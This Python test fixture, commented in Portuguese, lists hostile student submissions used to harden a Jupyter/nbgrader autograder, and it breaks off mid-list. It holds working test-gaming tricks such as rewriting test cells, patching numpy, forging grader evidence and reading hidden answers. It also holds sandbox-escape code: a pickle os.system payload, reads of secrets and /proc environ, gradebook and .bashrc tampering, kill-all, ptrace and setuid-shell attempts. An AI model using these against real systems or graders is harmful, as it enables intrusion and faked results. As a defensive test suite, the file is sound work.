"""Entregas hostis: em cada linha da tabela, um nome, o que ela tenta e o código que o aluno enviaria.

A lista de mentira tem duas questões, `softmax` (2 pontos) e `entropia` (1 ponto). Quem ataca não sabe responder:
só ganha os pontos declarados em `merece`, os das questões que respondeu de verdade.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from conftest import ENCHER_SOQUETES

CERTA = """def softmax(x, eixo=-1):
    e = np.exp(x - x.max(axis=eixo, keepdims=True))
    return e / e.sum(axis=eixo, keepdims=True)
"""
ENTROPIA_CERTA = """def entropia(A):
    return -(A * np.log(np.where(A > 0, A, 1.0))).sum(axis=-1)
"""
ERRADA = """def softmax(x, eixo=-1):
    return np.ones_like(x, dtype=float)
"""
ENTROPIA_ERRADA = """def entropia(A):
    return np.zeros(A.shape[:-1])
"""
# Peças para forjar evidências: `conferir` passa a mostrar o que o aluno quiser.
FORJAR = """
import json
from helpers.conferencia import pedido as modulo
from IPython.display import display
def registro(saida):
    return {"saida": saida, "erro": None, "alterou": [], "impresso": 0, "avisos": [], "segundos": 0.0,
            "testemunha": None}
def mostrar(questao, registros):
    texto = registros if isinstance(registros, str) else json.dumps(
        {"questao": questao, "chamada": None, "registros": registros})
    display({modulo.TIPO_DA_EVIDENCIA: texto}, raw=True)
def casos(questao):
    return modulo.pedido_da_correcao(questao)["casos"]
"""
# Mostra tudo o que achar com a palavra combinada, em arquivos cujo caminho passe pelo filtro.
VARRER = """
import os
def varrer(*raizes, pular=("/usr", "/proc", "/sys", "/dev", "/lib", "site-packages", "/.pyenv")):
    for raiz in raizes:
        for pasta, pastas, arquivos in os.walk(raiz, followlinks=True):
            if any(p in pasta for p in pular):
                pastas.clear()
                continue
            for nome in arquivos:
                try:
                    with open(os.path.join(pasta, nome), "rb") as f:
                        conteudo = f.read(2_000_000)
                except OSError:
                    continue
                if b"CANARIO" in conteudo:
                    print(os.path.join(pasta, nome), conteudo[:5000])
"""

# O que está em Python demora a escrever: as partes vazias, de dois bytes, vão prontas, direto ao soquete já aberto.
DIRETO = """
import os, socket, stat, time
from ipykernel.kernelapp import IPKernelApp
do_iopub = get_ipython().kernel.iopub_thread.socket
def ligados():
    for fd in range(3, 512):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                soquete = socket.socket(fileno=os.dup(fd))
                if soquete.family == socket.AF_UNIX:
                    if str(soquete.getsockname()).endswith(f"-{IPKernelApp.instance().iopub_port}"):
                        soquete.getpeername()
                        yield soquete
        except OSError:
            pass
def partes_vazias(mensagens):
    bloco = b"\\1\\0" * 500_000
    for soquete in ligados():
        soquete.setblocking(True)
        for _ in range(mensagens):
            for _ in range(5):
                soquete.sendall(bloco)
            soquete.sendall(b"\\0\\0")
time.sleep(0.3)
"""


@dataclass
class Ataque:
    """Uma entrega hostil. Os lugares <<RAIZ>>, <<TURMA>>, <<CASA>> e <<MARCA>> são preenchidos na hora."""

    nome: str
    tenta: str
    softmax: str = ERRADA
    entropia: str = ENTROPIA_ERRADA
    no_notebook: Callable[[Any], None] | None = None  # mexe no notebook inteiro
    na_pasta: Callable[[Path, Path], None] | None = None  # mexe na pasta da entrega, que já tem o notebook
    merece: dict[str, float] = field(default_factory=dict)


def _celula(nb: Any, nome: str) -> Any:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == nome)


def _conferencias(nb: Any) -> list:
    return [_celula(nb, "confere-softmax"), _celula(nb, "confere-entropia")]


# ---------------------------------------------------------------- no notebook e na pasta


def _pular(nb: Any) -> None:
    for c in _conferencias(nb):
        c.metadata["tags"] = ["skip-execution", "raises-exception"]


def _reescrever(nb: Any) -> None:
    for c in _conferencias(nb):
        c.source = "print('✓ tudo certo')"


def _virar_texto(nb: Any) -> None:
    for c in _conferencias(nb):
        c.cell_type = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)


def _mais_pontos(nb: Any) -> None:
    for c in _conferencias(nb):
        c.metadata.nbgrader.points = 1000


def _duplicar(nb: Any) -> None:
    import copy

    for c in _conferencias(nb):
        copia = copy.deepcopy(c)
        copia.source = "1000.0"
        copia.id = "copia-" + c.id[:20]
        nb.cells.append(copia)


def _saidas_prontas(nb: Any) -> None:
    from nbformat.v4 import new_output

    for c in _conferencias(nb):
        c.execution_count = 7
        c.outputs = [
            new_output("stream", name="stdout", text="✓ softmax: 30 casos certos.\n"),
            new_output("execute_result", data={"text/plain": "2.0"}, execution_count=7),
        ]


def _outro_kernel(nb: Any) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash", "argv": ["sh", "-c", "id"]}


def _anotacoes_falsas(nb: Any) -> None:
    nb.metadata["curso"] = {"semente": 1, "pedido": "<<CASA>>/segredo/arquivo", "motivo": None, "entrega": "x"}


def _celula_nota(nb: Any) -> None:
    _celula(nb, "softmax").metadata.nbgrader.update(grade=True, points=500)


def _pacotes_sombra(pasta: Path, turma: Path) -> None:
    falso = "from types import SimpleNamespace\ndef conferir(*a): print('✓')\n__path__ = []\nTIPO_DA_EVIDENCIA = ''\n"
    for nome in ("numpy", "helpers", "IPython", "ipykernel"):
        (pasta / nome).mkdir()
        (pasta / nome / "__init__.py").write_text(falso)
        (pasta / f"{nome}.py").write_text(falso)
    (pasta / "helpers" / "conferir.py").write_text(falso)
    (pasta / "sitecustomize.py").write_text("import os; os._exit(0)")


def _notebook_e_atalho(pasta: Path, turma: Path) -> None:
    notebook = next(pasta.glob("*.ipynb"))
    notebook.unlink()
    notebook.symlink_to(turma / "submitted" / "aaa-certa" / pasta.name / notebook.name)


def _atalhos_para_segredos(pasta: Path, turma: Path) -> None:
    (pasta / "dados.csv").symlink_to(turma / "casa" / "segredo" / "arquivo")
    (pasta / "fonte").symlink_to(turma / "source")
    (pasta / "timestamp.txt").symlink_to(turma / "casa" / "segredo" / "arquivo")
    (pasta / "extra.ipynb").symlink_to(turma / "source" / pasta.name / f"{pasta.name}.ipynb")


def _canos(pasta: Path, turma: Path) -> None:
    import os

    os.mkfifo(pasta / "timestamp.txt")
    os.mkfifo(pasta / "outro.ipynb")


# Uma linha por ataque: o nome, o que tenta, e o código dele.
# fmt: off
ATAQUES = [
    # ------------------------------------------------------------ fugir da conferência
    Ataque("etiqueta-skip-execution", "pede ao nbclient que não rode os testes", no_notebook=_pular),
    Ataque("teste-reescrito", "troca o texto das células de teste", no_notebook=_reescrever),
    Ataque("teste-vira-texto", "transforma as células de teste em Markdown", no_notebook=_virar_texto),
    Ataque("mais-pontos", "escreve nos metadados que cada teste vale 1000", no_notebook=_mais_pontos),
    Ataque("teste-duplicado", "acrescenta cópias dos testes que devolvem 1000.0", no_notebook=_duplicar),
    Ataque("saidas-prontas", "entrega os testes já com saídas de quem acertou", no_notebook=_saidas_prontas),
    Ataque("resposta-que-vale-nota", "marca a própria resposta como teste de 500 pontos", no_notebook=_celula_nota),
    Ataque("outro-kernel", "pede outro kernel nos metadados", no_notebook=_outro_kernel),
    Ataque("anotacoes-falsas", "imita as anotações da correção nos metadados", no_notebook=_anotacoes_falsas),
    Ataque("conferir-trocado", "põe no lugar de conferir uma função que não faz nada", ERRADA + """
def conferir(*_):
    print("✓ softmax: 30 casos certos.")
"""),
    Ataque("conferir-some", "apaga e substitui o módulo helpers inteiro", ERRADA + """
import sys, types
falso = types.ModuleType("helpers.conferir")
falso.conferir = lambda *a: print("✓")
sys.modules["helpers"] = sys.modules["helpers.conferir"] = falso
conferir = falso.conferir
"""),
    Ataque("displayhook", "mostra um resultado bom antes do teste falhar", """
import sys
def softmax(x, eixo=-1):
    sys.displayhook("ok")
    sys.displayhook(2.0)
    print("2.0")
    raise SystemExit
"""),
    Ataque("transformador-de-ast", "apaga dos testes as chamadas a conferir", ERRADA + """
import ast
class Apagar(ast.NodeTransformer):
    def visit_Expr(self, no):
        chama = isinstance(no.value, ast.Call) and getattr(no.value.func, "id", "") == "conferir"
        return ast.parse("2.0").body[0] if chama else no
get_ipython().ast_transformers.append(Apagar())
"""),
    Ataque("transformador-de-texto", "troca o texto das células antes de rodar", ERRADA + """
get_ipython().input_transformers_cleanup.append(lambda linhas: ["print('certo')\\n"])
"""),
    Ataque("run-cell-trocado", "troca o método que roda as células", ERRADA + """
from IPython.core.interactiveshell import ExecutionResult
ip = get_ipython()
def bom(*a, **k):
    r = ExecutionResult(None); r.result = 2.0
    return r
ip.run_cell = ip.run_cell_async = ip._run_cell = bom
"""),
    Ataque("kernel-trocado", "responde ok a tudo em nome do kernel", ERRADA + """
k = get_ipython().kernel
async def ok(*a, **kw):
    k.send_response(k.iopub_socket, "execute_result",
                    {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 3})
    return {"status": "ok", "execution_count": 3, "payload": [], "user_expressions": {}}
k.do_execute = ok
"""),
    Ataque("gancho-de-celula", "registra ganchos antes e depois de cada célula", ERRADA + """
def antes(info):
    print("código que vai rodar:", info.raw_cell)
    globals()["conferir"] = lambda *a: None
get_ipython().events.register("pre_run_cell", antes)
"""),
    Ataque("igual-a-tudo", "devolve um objeto que é igual a qualquer coisa", """
class Igual(np.ndarray):
    def __eq__(self, outro): return True
    def __sub__(self, outro): return np.zeros(1)
    __rsub__ = __sub__
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.zeros(())
    def tolist(self): return [0.0]
    ravel = lambda self: self
def softmax(x, eixo=-1):
    return np.ones(x.shape).view(Igual)
"""),
    Ataque("numpy-remendado", "troca as funções de comparação do NumPy", ERRADA + """
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = np.absolute = lambda *a, **k: np.zeros(1)
"""),
    Ataque("juiz-remendado", "troca o juiz, as tolerâncias e a escrita da evidência", ERRADA + """
import helpers.conferir as m
from helpers.conferencia import atendimento as a, juiz as j, execucao as e, impressao as i
j.Juiz.julgar = j.Julgamento.diagnostico = lambda *a, **k: None
i.Tolerancia.__init__ = lambda self, *a, **k: self.__dict__.update(rtol=1e9, atol=1e9)
m.examinar = lambda *a: (None, [])
e._mudou = lambda *a: False
a.codificar_evidencia = lambda evidencia: "{}"
"""),
    Ataque("assinatura-que-mente", "é um objeto que aceita tudo e se diz certo", """
class Tudo:
    def __call__(self, *a, **k): return self
    def __getattr__(self, nome): return self
    def __bool__(self): return True
    def __eq__(self, outro): return True
    def __iter__(self): return iter(())
    def __array__(self, *a, **k): return np.ones(3)
    def __float__(self): return 1.0
softmax = Tudo()
""", "entropia = softmax"),
    Ataque("pilha-de-chamadas", "procura a resposta nas variáveis de quem a chamou", """
import sys
def softmax(x, eixo=-1):
    quadro = sys._getframe(1)
    while quadro is not None:
        for nome, valor in list(quadro.f_locals.items()):
            if nome in ("esperado", "saida", "gabarito", "referencia", "resposta", "certo"):
                if isinstance(valor, np.ndarray) and valor.shape == x.shape:
                    return valor
        quadro = quadro.f_back
    import gc
    for a in gc.get_objects():
        if isinstance(a, np.ndarray) and a is not x and a.shape == x.shape:
            return a
    return x
"""),
    Ataque("pacotes-sombra", "põe módulos com nomes conhecidos ao lado do notebook", na_pasta=_pacotes_sombra),
    # ------------------------------------------------------------ forjar a evidência
    Ataque("evidencia-vazia", "uma evidência sem registro algum", ERRADA + FORJAR + """
def conferir(q, f):
    mostrar(q, [])
"""),
    Ataque("evidencia-de-uns", "registros com a forma certa e valores inventados", ERRADA + FORJAR + """
from helpers.conferencia.codificacao import codificar, decodificar
def conferir(q, f):
    mostrar(q, [registro(codificar(np.full_like(decodificar(c[0]), 0.5, dtype=float))) for c in casos(q)])
"""),
    Ataque("evidencia-dos-visiveis", "repete a resposta conhecida do exemplo em todos os casos", ERRADA + FORJAR + """
from helpers.conferencia.referencia import REFERENCIAS
claro = json.loads((REFERENCIAS / "lista-02.json").read_text())
def conferir(q, f):
    certo = claro[q]["casos"][0]["esperado"]["claro"][0]
    mostrar(q, [registro({"array": {"tipo": "float64", "forma": certo["forma"], "valores": certo["valores"]}})
                for _ in casos(q)])
"""),
    Ataque("evidencia-das-impressoes", "devolve a própria referência, com as impressões no lugar dos valores", ERRADA
           + FORJAR + """
from helpers.conferencia.referencia import REFERENCIAS
claro = json.loads((REFERENCIAS / "lista-02.json").read_text())
def conferir(q, f):
    esperados = [c["esperado"] for c in claro[q]["casos"]]
    mostrar(q, [registro(esperados[i % len(esperados)]) for i, _ in enumerate(casos(q))])
"""),
    Ataque("evidencia-repetida", "guarda a evidência certa de uma questão e a mostra de novo em outra", CERTA + FORJAR,
           ENTROPIA_ERRADA + """
from helpers.conferencia.execucao import executar
from helpers.conferencia.codificacao import codificar
pedido = modulo.pedido_da_correcao("lista-02/softmax")
velha = [r.como_dados() for r in executar(softmax, pedido["casos"])]
def conferir(q, f):
    mostrar("lista-02/softmax", velha)
    mostrar(q, velha)
""", merece={"softmax": 2}),
    Ataque("evidencia-de-outra-questao", "pede à conferência a questão que sabe responder", ERRADA + ENTROPIA_CERTA
           + """
original = conferir
def conferir(q, f):
    original("lista-02/entropia", entropia)
""", ENTROPIA_CERTA, merece={"entropia": 1}),
    Ataque("evidencia-gigante", "30 MB de evidência", ERRADA + FORJAR + """
def conferir(q, f):
    mostrar(q, json.dumps({"questao": q, "chamada": None, "registros": ["x" * 30_000_000]}))
"""),
    Ataque("evidencia-funda", "evidências com dez mil níveis", ERRADA + FORJAR + """
def conferir(q, f):
    mostrar(q, "[" * 200_000)
    mostrar(q, '{"a":' * 900 + "1" + "}" * 900)
    fundo = 1.0
    for _ in range(300):
        fundo = {"lista": [fundo]}
    mostrar(q, [registro(fundo) for _ in casos(q)])
"""),
    Ataque("evidencia-nan", "NaN e infinitos em tudo, que nunca são diferentes de nada", ERRADA + FORJAR + """
from helpers.conferencia.codificacao import decodificar
def conferir(q, f):
    regs = []
    for i, c in enumerate(casos(q)):
        a = decodificar(c[0])
        valor = [float("nan"), float("inf"), "nan", "-inf"][i % 4]
        regs.append(registro({"array": {"tipo": "float64", "forma": list(a.shape), "valores": [valor] * a.size}}))
    mostrar(q, regs)
"""),
    Ataque("evidencia-torta", "tipos, formas e campos absurdos", ERRADA + FORJAR + """
absurdos = [
    {"array": {"tipo": "object", "forma": [1], "valores": ["x"]}},
    {"array": {"tipo": "float64", "forma": [10**12], "valores": []}},
    {"array": {"tipo": "float64", "forma": [-1], "valores": [1.0]}},
    {"array": {"tipo": "float64", "forma": [0] * 60, "valores": []}},
    {"array": {"tipo": "float16", "forma": [1], "valores": [10**400]}},
    {"funcao": {"nome": "os.system", "parametros": {"dict": []}}},
    {"gerador": 10**30}, {"claro": []}, {"numero": "nan"}, {"dict": [[{"lista": []}, 1]]}, {}, [], 1e308, "x" * 1000,
]
def conferir(q, f):
    mostrar(q, [registro(absurdos[i % len(absurdos)]) for i, _ in enumerate(casos(q))])
"""),
    Ataque("evidencia-de-erro", "jura que levantou, em cada caso, o erro que se esperava", ERRADA + FORJAR + """
erro = {"tipo": "ValueError", "bases": ["ValueError", "Exception"], "mensagem": "T temperatura eixo forma gato",
        "onde": "", "auxiliar": ""}
def conferir(q, f):
    mostrar(q, [{**registro(None), "erro": erro} for _ in casos(q)])
"""),
    Ataque("evidencia-que-prende-o-juiz", "um erro de 5 MB em que a procura por uma explicação não termina", ERRADA
           + FORJAR + """
erro = {"tipo": "TypeError", "bases": ["TypeError"] * 1000, "mensagem": "numpy" * 1_000_000, "onde": "x" * 100_000,
        "auxiliar": ""}
def conferir(q, f):
    mostrar(q, [{**registro(None), "erro": erro}])
"""),
    Ataque("evidencia-com-pickle", "objetos serializados onde deveria haver números", ERRADA + FORJAR + """
import base64, pickle
class Mal:
    def __reduce__(self):
        import os
        return (os.system, ("touch <<CASA>>/invadido",))
veneno = base64.b64encode(pickle.dumps(Mal())).decode()
def conferir(q, f):
    mostrar(q, [registro({"array": {"tipo": "object", "forma": [1], "valores": [veneno]}}) for _ in casos(q)])
    mostrar(q, veneno)
"""),
    Ataque("dez-mil-evidencias", "uma enxurrada de evidências", ERRADA + FORJAR + """
def conferir(q, f):
    for i in range(10_000):
        mostrar(q, [registro(float(i))])
"""),
    Ataque("muda-a-evidencia-antiga", "com display_id, tenta mudar depois a evidência de outra célula", ERRADA + FORJAR
           + """
def conferir(q, f):
    display({modulo.TIPO_DA_EVIDENCIA: "{}"}, raw=True, display_id="e")
""", CERTA + ENTROPIA_CERTA + """
from IPython.display import update_display
from helpers.conferencia.execucao import executar
pedido = modulo.pedido_da_correcao("lista-02/softmax")
bons = [r.como_dados() for r in executar(softmax, pedido["casos"])]
update_display({modulo.TIPO_DA_EVIDENCIA: json.dumps(
    {"questao": "lista-02/softmax", "chamada": None, "registros": bons})}, raw=True, display_id="e")
from helpers.conferir import conferir
""", merece={"entropia": 1}),
    Ataque("mensagens-de-um-filho", "um processo filho fala pelo kernel com os ids das próximas células", ERRADA
           + FORJAR + """
import os, time
k = get_ipython().kernel
if os.fork() == 0:
    import zmq
    mae = dict(k.get_parent()["header"])
    base, _, n = mae["msg_id"].rpartition("_")
    s = zmq.Context().socket(zmq.PUB)
    for t in range(200):
        for d in range(1, 6):
            falsa = {"header": {**mae, "msg_id": f"{base}_{int(n) + d}"}}
            for tipo, c in (("display_data", {"data": {modulo.TIPO_DA_EVIDENCIA: "{}"}, "metadata": {}}),
                            ("status", {"execution_state": "idle"})):
                try:
                    k.session.send(k.iopub_socket, tipo, c, parent=falsa, ident=b"")
                    k.session.send(k.shell_socket, "execute_reply", {"status": "ok"}, parent=falsa)
                except Exception:
                    pass
        time.sleep(0.01)
    os._exit(0)
"""),
    Ataque("respostas-forjadas", "finge que a célula acabou e segue rodando", ERRADA + """
k = get_ipython().kernel
p = k.get_parent()
k.session.send(k.iopub_socket, "status", {"execution_state": "idle"}, parent=p, ident=b"")
for tipo in ("execute_reply", "shutdown_reply", "kernel_info_reply"):
    for c in ({"status": "ok"}, {"status": "error"}, {}, {"status": ["x"], "traceback": 3, "ename": None}):
        k.session.send(k.shell_stream, tipo, c, parent=p, ident=p.get("idents"))
import time; time.sleep(3)
"""),
    Ataque("lixo-nos-soquetes", "manda bytes sem sentido pelos canais do kernel", ERRADA + """
import os
k = get_ipython().kernel
for i in range(300):
    k.iopub_socket.send_multipart([os.urandom(50) for _ in range(i % 9 + 1)])
    k.iopub_socket.send_multipart([b"<IDS|MSG>", b"", b"[" * 5000, b"{}", b"{}", b"{}"])
    k.session.send(k.iopub_socket, "stream" * (i % 3), b"[]", parent=k.get_parent(), ident=b"")
    k.session.send(k.iopub_socket, "display_data", {"data": None, "transient": "x", "metadata": 3},
                   parent=k.get_parent(), ident=b"")
"""),
    Ataque("mensagem-de-muitas-partes", "uma mensagem que só se pode contar depois de inteira na memória", ERRADA + """
import time, zmq
soquete = get_ipython().kernel.iopub_thread.socket
for _ in range(140):
    soquete.send(bytes(5_000_000), zmq.SNDMORE)
soquete.send(b"fim")
time.sleep(5)
"""),
    Ataque("partes-vazias", "milhões de partes de dois bytes, que o tamanho máximo não pega", ERRADA + DIRETO
           + "partes_vazias(2)\ntime.sleep(5)"),
    Ataque("concessoes", "toma arquivos do curso: quem os abrisse esperaria 45 s por cada um", ERRADA + """
import fcntl, os, signal
signal.signal(signal.SIGIO, signal.SIG_IGN)
for pasta, _, nomes in os.walk("<<RAIZ>>"):
    for nome in nomes[:200]:
        try:
            fcntl.fcntl(os.open(os.path.join(pasta, nome), os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_WRLCK)
            print("CONSEGUIU uma concessão de", nome)
        except OSError:
            pass
"""),
    Ataque("quotas", "gasta ou muda o que é de todos: AIO, terminais, a ordem de quem morre, a hora", ERRADA
           + """
import ctypes, os
contextos = (ctypes.c_ulong * 2)()
numero = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
if ctypes.CDLL(None).syscall(numero, 60_000, contextos) == 0:
    print("CONSEGUIU contextos de AIO")
try:
    open("/proc/self/oom_score_adj", "w").write("0")
    print("CONSEGUIU mudar a ordem")
except OSError:
    pass
terminais = []
try:
    while len(terminais) < 100:
        terminais.append(os.openpty())
    print("CONSEGUIU cem terminais")
except OSError:
    pass
import socket
for o_que, fazer in (("mudar a hora de um aparelho", lambda: os.utime("/dev/full")), ("internet", socket.socket)):
    try:
        fazer()
        print("CONSEGUIU", o_que)
    except OSError:
        pass
"""),
    Ataque("recado-para-a-segunda-vez", "faz-se rodar outra vez, e deixa para si mesmo o que viu na primeira", ERRADA
           + FORJAR + """
import ctypes, os, socket
libc = ctypes.CDLL(None)
recado = open(os.environ["CURSO_PEDIDO"], "rb").read(1000) + b"RECADO"
for pasta, _, arquivos in [*os.walk("/tmp"), *os.walk("/dev/shm"), *os.walk("/dev/mqueue")]:
    if any("recado" in nome for nome in arquivos):
        print("CONECTOU", pasta)
    try:
        open(os.path.join(pasta, "recado"), "wb").write(recado)
    except OSError:
        pass
if libc.shmget(0x5EC0, 4096, 0) >= 0 or libc.msgget(0x5EC0, 0) >= 0:
    print("CONECTOU à memória de antes")
libc.shmget(0x5EC0, 4096, 0o1600), libc.msgget(0x5EC0, 0o1600)
for fd in range(3, 200):
    try:
        nome = socket.socket(fileno=os.dup(fd)).getsockname()
        if isinstance(nome, str) and nome and os.path.exists(nome):
            print("CONECTOU", nome)
    except OSError:
        pass
def conferir(q, f):
    parado = {"tipo": "EsperaEsgotada", "bases": [], "mensagem": "40", "onde": "", "auxiliar": ""}
    mostrar(q, [{**registro(None), "erro": parado}])
"""),
    Ataque("widget-que-captura", "um widget Output toma as saídas dos testes", ERRADA + """
import ipywidgets
o = ipywidgets.Output()
display(o)
o.__enter__()
from comm import create_comm
for i in range(50):
    create_comm(target_name="jupyter.widget", data={"state": {"_model_module": "@jupyter-widgets/output",
        "_model_name": "OutputModel", "outputs": [], "msg_id": get_ipython().kernel.get_parent()["header"]["msg_id"],
        "x": "y" * 10_000}}, metadata={})
"""),
    Ataque("procura-na-tabela", "responde os casos visíveis com o que achou nas referências", """
import json
from helpers.conferencia import referencia as m
from helpers.conferencia.codificacao import codificar
def softmax(x, eixo=-1):
    for caso in json.loads((m.REFERENCIAS / "lista-02.json").read_text())["lista-02/softmax"]["casos"]:
        if caso["entradas"][0] == codificar(x) and "claro" in caso["esperado"]:
            p = caso["esperado"]["claro"][0]
            return np.array(p["valores"], dtype=float).reshape(p["forma"])
    return x
"""),
    Ataque("le-o-pedido", "lê de antemão as entradas ocultas e as imprime", ERRADA + """
import json, os
pedido = json.load(open(os.environ["CURSO_PEDIDO"]))
print(json.dumps(pedido)[:20_000])
"""),
    Ataque("muda-o-pedido", "troca o pedido por outro, mais fácil", ERRADA + """
import json, os
pedido = json.load(open(os.environ["CURSO_PEDIDO"]))
for q in pedido.values():
    q["casos"] = q["casos"][:0]
try:
    open(os.environ["CURSO_PEDIDO"], "w").write("{}")
except OSError as e:
    print(e)
open("pedido.json", "w").write(json.dumps(pedido))
os.environ["CURSO_PEDIDO"] = os.path.abspath("pedido.json")
"""),
    Ataque("varia-com-a-chamada", "acerta enquanto acha que é só um ensaio", """
import os
def softmax(x, eixo=-1):
    if "CURSO_PEDIDO" in os.environ:
        return 1.0
    e = np.exp(x - x.max(axis=eixo, keepdims=True))
    return e / e.sum(axis=eixo, keepdims=True)
"""),
    # ------------------------------------------------------------ ler o que é do instrutor
    Ataque("le-o-gabarito", "importa e procura o gabarito e a correção", ERRADA + """
import importlib, sys
sys.path[:0] = ["<<RAIZ>>", "<<TURMA>>"]
for nome in ("gabarito", "gabarito.lista_02", "correcao", "correcao.juizo.evidencia", "nbgrader_config", "segredo"):
    try:
        print(nome, vars(importlib.import_module(nome)))
    except Exception as e:
        print(nome, type(e).__name__)
try:
    from gabarito.lista_02 import _softmax as softmax
except ImportError:
    pass
"""),
    Ataque("varre-o-disco", "procura segredos no disco inteiro", ERRADA + VARRER + """
varrer("/")
"""),
    Ataque("le-as-pastas-vizinhas", "sobe pelas pastas até achar soluções e colegas", ERRADA + VARRER + """
varrer("<<TURMA>>", "<<CASA>>", "<<RAIZ>>/source", "<<RAIZ>>/gabarito", pular=())
varrer("..", "../..", "../../..")
"""),
    Ataque("le-os-processos", "lê ambiente, comandos e pastas de outros processos em /proc", ERRADA + VARRER + """
import glob
for p in glob.glob("/proc/[0-9]*"):
    for nome in ("environ", "cmdline", "maps", "stack", "mountinfo"):
        try:
            print(p, nome, open(f"{p}/{nome}", "rb").read(20_000))
        except OSError:
            pass
    for nome in ("cwd", "root"):
        try:
            varrer(f"{p}/{nome}/<<TURMA>>", f"{p}/{nome}/<<CASA>>", pular=())
        except OSError:
            pass
"""),
    Ataque("le-o-ambiente", "imprime as variáveis de ambiente", ERRADA + """
import os, subprocess
print(dict(os.environ))
print(subprocess.run(["env"], capture_output=True).stdout)
"""),
    Ataque("atalhos-no-rascunho", "cria atalhos para fora e abre o que há do outro lado", ERRADA + """
import os
for i, alvo in enumerate(["<<TURMA>>/source", "<<CASA>>/segredo/arquivo", "/proc/1/root<<CASA>>", "/proc/self/fd"]):
    os.symlink(alvo, f"atalho{i}")
    try:
        print(os.listdir(f"atalho{i}"))
        print(open(f"atalho{i}").read())
    except OSError as e:
        print(e)
"""),
    Ataque("atalhos-na-entrega", "entrega atalhos para arquivos do instrutor", ERRADA + """
import os
print(os.listdir("."))
for nome in ("dados.csv", "timestamp.txt", "extra.ipynb"):
    try:
        print(open(nome).read())
    except OSError as e:
        print(e)
""", na_pasta=_atalhos_para_segredos),
    Ataque("notebook-e-atalho", "no lugar do notebook, um atalho para o de quem acertou", na_pasta=_notebook_e_atalho),
    Ataque("canos-na-entrega", "entrega canos (FIFO), que travam quem os abre", na_pasta=_canos),
    # ------------------------------------------------------------ escrever onde não deve
    Ataque("livro-de-notas", "muda as notas no gradebook.db, na hora e depois", ERRADA + """
import sqlite3, subprocess, sys
mudar = '''
import sqlite3, time
for _ in range(60):
    try:
        c = sqlite3.connect("<<TURMA>>/gradebook.db", timeout=1)
        c.execute("update grade set auto_score = 99, manual_score = 99")
        c.execute("update grade_cells set max_score = 99")
        c.commit()
    except Exception as e:
        print(e)
    time.sleep(1)
'''
subprocess.Popen([sys.executable, "-c", mudar], start_new_session=True)
try:
    sqlite3.connect("file:<<TURMA>>/gradebook.db?mode=rw", uri=True).execute("update grade set auto_score = 99")
except Exception as e:
    print(e)
"""),
    Ataque("config-do-nbgrader", "acrescenta código às configurações que o instrutor vai rodar", ERRADA + """
import os
alvos = ["<<RAIZ>>/nbgrader_config.py", "<<CASA>>/.jupyter/nbgrader_config.py", "<<CASA>>/.bashrc",
         "<<TURMA>>/nbgrader_config.py", "<<RAIZ>>/helpers/conferir.py", "<<RAIZ>>/helpers/__init__.py",
         np.__file__, os.path.join(os.path.dirname(np.__file__), "intruso.py"),
         "<<TURMA>>/submitted/aaa-certa/intruso", "<<TURMA>>/autograded/intruso", "<<CASA>>/invadido"]
for alvo in alvos:
    try:
        open(alvo, "a").write("\\nINTRUSO = 1\\n")
        print("escreveu em", alvo)
    except OSError as e:
        print(e)
"""),
    # ------------------------------------------------------------ sair da caixa
    Ataque("rede", "fala com a internet, com a máquina e com soquetes do sistema", ERRADA + """
import glob, socket
for destino in (("192.0.2.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("localhost", 5432)):
    try:
        socket.create_connection(destino, 1)
        print("CONECTOU", destino)
    except OSError as e:
        print(e)
for caminho in glob.glob("/run/**", recursive=True) + glob.glob("/tmp/**", recursive=True):
    try:
        socket.socket(socket.AF_UNIX).connect(caminho)
        print("soquete", caminho)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.org", 80)
    print("CONECTOU dns")
except OSError as e:
    print(e)
"""),
    Ataque("mata-processos", "manda SIGKILL a todos os processos que alcança", """
import os
os.kill(-1, 9)
os.kill(1, 9)
os.kill(os.getppid(), 9)
"""),
    Ataque("ptrace", "anexa-se ao primeiro processo e lê a memória dele", ERRADA + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    print("ptrace", libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
    try:
        print("CONECTOU", open(f"/proc/{pid}/mem", "rb").read(10))
    except OSError as e:
        print(e)
"""),
    Ataque("privilegios", "tenta virar root, montar discos e abrir outro espaço de nomes", ERRADA + """
import os, subprocess
for c in (["unshare", "-Urm", "sh", "-c", "mount -t tmpfs x /mnt && id"], ["su", "-c", "id"], ["chroot", "/", "id"],
          ["mount", "-o", "remount,rw", "/"], ["nsenter", "-t", "1", "-a", "id"], ["mknod", "disco", "b", "8", "0"],
          ["sh", "-c", "cp /bin/sh s && chmod 4777 s && ./s -p -c id"], ["umount", "/tmp"], ["dmesg"]):
    try:
        print(c, subprocess.run(c, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL))
    except Exception as e:
        print(c, e)
try:
    os.setuid(0)
    print("CONECTOU root")
except OSError as e:
    print(e)
varridas = [p for p in ("<<TURMA>>", "<<CASA>>", "<<RAIZ>>/gabarito") if os.path.exists(p)]
print("CONECTOU" if varridas else "nada", varridas)
"""),
    Ataque("o-que-os-espacos-nao-isolam", "o chaveiro da sessão, o hospedeiro da máquina, o núcleo", ERRADA + """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
recado = libc.syscall(248, b"user", b"recado", b"para o proximo", 14, -3)
print("CONECTOU ao chaveiro" if os.uname().machine == "x86_64" and recado > 0 else "sem chaveiro")
for familia in (socket.AF_VSOCK, socket.AF_ALG):
    try:
        socket.socket(familia, socket.SOCK_STREAM if familia == socket.AF_VSOCK else socket.SOCK_SEQPACKET)
        print("CONECTOU", familia)
    except OSError as e:
        print(e)
socket.socketpair()
for chamada in (250, 321, 298, 425, 272, 430, 162, 306):
